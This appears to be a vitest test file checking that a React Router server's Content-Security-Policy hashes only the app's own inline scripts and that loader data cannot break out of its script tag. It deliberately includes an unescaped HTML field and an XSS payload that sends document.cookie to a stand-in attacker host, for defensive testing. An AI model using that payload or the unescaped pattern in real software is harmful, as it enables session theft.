import { hash } from "node:crypto";
import { Script } from "node:vm";
import { createRequestHandler, Outlet, RouterContextProvider, Scripts, ScrollRestoration, type ServerBuild } from "react-router";
import { expect, it } from "vitest";
import * as entry from "./entry.server.tsx";

/** A field that forgot to escape what somebody typed. */
const Field = ({ typed }: { typed: string }) => <p dangerouslySetInnerHTML={{ __html: typed }} />;

function pageWith(typed: string): ServerBuild {
  const Root = () => (
    <html lang="es">
      <body>
        <Outlet />
        <ScrollRestoration />
        <Scripts />
      </body>
    </html>
  );
  const loader = () => ({ typed });
  const page = { default: () => <Field typed={typed} />, loader };
  const asset = (id: string) => ({ id, path: "", module: `/${id}.js`, imports: [], hasLoader: id === "page" });
  return {
    entry: { module: entry },
    routes: {
      root: { id: "root", path: "", module: { default: Root } },
      page: { id: "page", parentId: "root", index: true, module: page },
    },
    assets: {
      entry: { imports: ["/assets/react-1.js"], module: "/assets/entry.client-1.js" },
      routes: { root: asset("root"), page: { ...asset("page"), parentId: "root", index: true } },
      url: "/assets/manifest-1.js",
      version: "1",
    },
    basename: "/",
    publicPath: "/",
    assetsBuildDirectory: "",
    future: {},
    ssr: true,
    isSpaMode: false,
    prerender: [],
    routeDiscovery: { mode: "initial" },
  } as unknown as ServerBuild;
}

async function render(typed: string, query = "") {
  const handle = createRequestHandler(pageWith(typed), "production");
  const response = await handle(new Request(`http://shop/${query}`), new RouterContextProvider());
  return { html: await response.text(), policy: response.headers.get("content-security-policy")! };
}

const scriptsOf = (html: string): string[] => [...html.matchAll(/<script[^>]*>([^]*?)<\/script>/g)].map(([, code]) => code!);
const nameOf = (script: string) => `'sha256-${hash("sha256", script, "base64")}'`;

it("names the program's own scripts in its policy, and none that came into the page with somebody's words", async () => {
  const injected = "fetch('//evil.example/'+document.cookie)";
  const { html, policy } = await render(`<script>${injected}</script>`);
  const run = scriptsOf(html);
  expect(run).toContain(injected);
  expect(policy).not.toContain(nameOf(injected));
  expect(policy).not.toContain("unsafe-inline' 's");
  const own = run.filter((code) => code !== injected);
  expect(own.length).toBeGreaterThan(3);
  for (const code of own) expect(policy).toContain(nameOf(code));
});

it("is the same page each time it is made, so that its ETag lasts", async () => {
  const [first, second] = [await render("uno"), await render("uno")];
  expect(second).toEqual(first);
  expect(first.html).not.toContain("nonce");
});

it("hands over what the loaders answered in a script that it cannot end", async () => {
  const { html } = await render("</script><script>go()</script>");
  // The field's own script, and the one that hands it over as data.
  const [own, handed, ...others] = scriptsOf(html).filter((code) => code.includes("go()"));
  expect([own, others]).toEqual(["go()", []]);
  expect(handed).not.toContain("<");
  expect(() => new Script(handed!), "whole: it can be read as a program").not.toThrow();
});

const preloads = (html: string) => [...html.matchAll(/<link rel="modulepreload" href="([^"]*)"/g)].map(([, file]) => file);

it("asks for the first picture before most scripts, but on a page of somebody's own, which is there to be used", async () => {
  expect(new Set(preloads((await render("")).html))).toEqual(new Set(["/assets/manifest-1.js", "/assets/entry.client-1.js"]));
  expect(preloads((await render("", "?preview=1")).html)).toContain("/assets/react-1.js");
});
